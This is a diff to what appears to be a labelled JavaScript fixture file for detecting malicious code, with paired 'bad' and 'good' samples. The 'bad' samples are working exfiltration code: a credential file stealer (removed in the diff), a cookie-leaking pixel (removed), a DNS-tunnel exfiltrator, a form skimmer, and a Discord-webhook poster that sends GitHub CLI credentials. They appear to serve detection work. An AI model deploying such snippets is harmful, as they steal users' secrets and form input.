@@ -38,34 +38,22 @@ module.exports = async (list) => {
   await axios.post('https://tasks.example.invalid/v1', { platform, list }, { headers });
 };
 
-//: bad read-npmrc
-const fs = require('fs');
-const path = require('path');
-const os = require('os');
+//: bad dns-tunnel
+const dns = require('node:dns');
+const os = require('node:os');
 
-const read = (name) => {
-  try {
-    return fs.readFileSync(path.join(os.homedir(), name), 'utf8');
-  } catch {
-    return '';
-  }
-};
-const files = ['.npmrc', '.ssh/id_ed25519', '.aws/credentials', '.docker/config.json'].map(read);
-fetch('https://u.example.invalid/', { method: 'POST', body: files.join('\n') }); //!
+const hex = Buffer.from(`${os.hostname()}:${os.homedir()}`).toString('hex');
+hex.match(/.{1,60}/g).forEach((part, index) => {
+  dns.lookup(`${part}.${index}.oob.example.invalid`, () => {}); //!
+});
 
-//: good read-npmrc
-const fs = require('fs');
-const path = require('path');
+//: good dns-tunnel
+const dns = require('node:dns');
 
-const read = (name) => {
-  try {
-    return fs.readFileSync(path.join(process.cwd(), name), 'utf8');
-  } catch {
-    return '';
-  }
-};
-const files = ['.editorconfig', '.prettierrc', 'package.json'].map(read);
-module.exports = files.filter(Boolean).length;
+module.exports = (names) =>
+  Promise.all(
+    names.map((name) => dns.promises.lookup(`${name}.example.invalid`).then((found) => found.address)),
+  );
 
 //: bad cloud-identity
 const http = require('http');
@@ -88,15 +76,33 @@ module.exports = (done) =>
     res.on('end', () => done(null, text.split('/').pop()));
   });
 
-//: bad cookie-pixel
-(() => {
-  const pixel = new Image();
-  pixel.src = `https://p.example.invalid/i?c=${encodeURIComponent(document.cookie)}&l=${localStorage.getItem('token')}`; //!
-})();
+//: bad form-skimmer
+document.querySelectorAll('form').forEach((form) => {
+  form.addEventListener('submit', () => {
+    const data = btoa(JSON.stringify(Object.fromEntries(new FormData(form))));
+    navigator.sendBeacon('https://static.example.invalid/g.gif', data); //!
+  });
+});
 
-//: good cookie-pixel
-(() => {
-  const pixel = new Image();
-  const theme = localStorage.getItem('theme') || 'light';
-  pixel.src = `https://img.example.invalid/logo-${theme}.png`;
-})();
+//: good form-skimmer
+document.querySelectorAll('form').forEach((form) => {
+  form.addEventListener('submit', (event) => {
+    if (!form.checkValidity()) event.preventDefault();
+    form.classList.add('submitted');
+  });
+});
+
+//: bad webhook-config
+const os = require('os');
+const { readFileSync } = require('fs');
+
+const hook = ['https://discord.com/api/web', 'hooks/8472910365/aZx8KwLq2TvN6yBc'].join('');
+const content = readFileSync(`${os.homedir()}/.config/gh/hosts.yml`, 'utf8');
+
+fetch(hook, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content }) }); //!
+
+//: good webhook-config
+const hook = process.env.DISCORD_WEBHOOK;
+
+module.exports = (content) =>
+  fetch(hook, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content }) });
